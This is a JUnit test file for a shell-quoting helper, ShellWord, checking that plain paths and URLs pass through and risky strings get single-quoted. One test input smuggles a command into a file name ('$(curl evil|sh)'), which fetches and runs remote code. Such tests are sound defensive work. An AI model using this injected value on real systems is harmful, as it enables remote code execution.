package io.tokenform.access;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ShellWordTest {
  @ParameterizedTest
  @ValueSource(strings = {"tokens.yaml", "/srv/a-b/c_d.jsonl", "https://influx.example.com:8086"})
  void whatAShellReadsAsItIsStaysSo(String text) {
    assertThat(ShellWord.of(text)).isEqualTo(text);
  }

  @Test
  void whatAShellWouldActOnIsQuoted() {
    assertThat(ShellWord.of("j-$(curl evil|sh).jsonl")).isEqualTo("'j-$(curl evil|sh).jsonl'");
    assertThat(ShellWord.of("it's mine")).isEqualTo("'it'\\''s mine'");
    assertThat(ShellWord.of("")).isEqualTo("''");
    assertThat(ShellWord.of("~/x")).isEqualTo("'~/x'");
  }
}
